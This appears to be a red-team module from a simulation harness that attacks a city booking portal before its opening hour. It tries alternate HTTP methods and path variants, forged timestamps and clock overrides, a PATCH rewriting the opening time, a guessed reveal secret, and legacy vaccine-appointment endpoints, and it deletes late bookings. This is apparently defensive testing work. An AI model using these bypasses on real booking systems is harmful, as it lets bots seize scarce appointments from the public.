"""Every way to book before the opening: direct ids, old endpoints, other clocks, replays, other methods.

It asks until just before the hour and then goes home. What was accepted before the hour is a gain; what a
busy portal only came to after the hour is none, and is withdrawn.
"""

import asyncio
from collections.abc import Iterator
from dataclasses import dataclass
from time import time

from sodat.city.story import unix_seconds
from sodat.city.wire import Answer
from sodat.redteam.crew import Crew
from sodat.redteam.doors import ACCEPTED, Door

STOP_SECONDS = 0.4
"""Before the hour, so that nothing of it can arrive after the opening."""
EVERY_SECONDS = 0.02


@dataclass(frozen=True, slots=True)
class Way:
    """One request that might book."""

    method: str
    path: str
    body: object


async def attack(crew: Crew) -> None:
    """Try all ways with all accounts, over and over, until just before the hour."""
    await crew.sign_in()
    await crew.each(lambda door: _knock(crew, door))


async def _knock(crew: Crew, door: Door) -> None:
    while time() < crew.scene.opens_at - STOP_SECONDS and not crew.budget.spent:
        for way in ways(crew, door):
            if time() >= crew.scene.opens_at - STOP_SECONDS or crew.budget.spent:
                return
            crew.trick.tries += 1
            answer = await door.ask(way.method, way.path, way.body)
            await note(crew, door, answer)
            await asyncio.sleep(EVERY_SECONDS)


async def note(crew: Crew, door: Door, answer: Answer) -> None:
    """Count what was accepted before the hour, and withdraw what was accepted after it."""
    said = answer.body if isinstance(answer.body, dict) else {}
    if answer.status not in ACCEPTED or not {"application", "appointment_confirmation_no"} & set(said):
        return
    filed_at = unix_seconds(said["filed_at"]) if said.get("filed_at") else crew.scene.opens_at
    if time() < crew.scene.opens_at or filed_at < crew.scene.opens_at:
        crew.trick.gains += 1
    elif "application" in said:
        await door.ask("DELETE", f"/api/v1/applications/{said['application']}")


def ways(crew: Crew, door: Door) -> Iterator[Way]:
    """Yield the ways: through the front, by other names of it, by other clocks, by the old interface."""
    release, wishes = crew.scene.release, crew.wishes(door)
    path = f"/api/v1/releases/{release}/applications"
    body = {"persons": door.party, "choices": wishes}
    yield Way("POST", path, body)
    for other in ("PUT", "PATCH"):
        yield Way(other, path, body)
    for name in (
        f"{path}/",
        f"/{path}",
        path.upper(),
        path.replace("releases", "releases/."),
        f"{path}?open=1",
    ):
        yield Way("POST", name, body)
    early = {"opens_at": "2021-05-11T14:30:00Z", "filed_at": "2021-05-11T14:30:01Z", "state": "open"}
    yield Way("POST", path, {**body, **early, "now": 0, "arrival": 1})
    yield Way("POST", f"{path}?now=4102444800", body)
    yield Way("PATCH", f"/api/v1/releases/{release}", early)
    yield Way("POST", f"/api/v1/releases/{release}/reveals", {"trustee": "city", "secret": "00" * 32})
    if crew.other:  # ids of this release handed in through one that was open before
        yield Way("POST", f"/api/v1/releases/{crew.other}/applications", body)
    old = {
        "dose": 1,
        "session_id": wishes[0],
        "slot": "09:00AM-11:00AM",
        "beneficiaries": [str(person) for person in door.party],
    }
    for base in ("/api/v2/appointment/schedule", "/api/v1/appointment/schedule", "/api/appointment/schedule"):
        yield Way("POST", base, old)
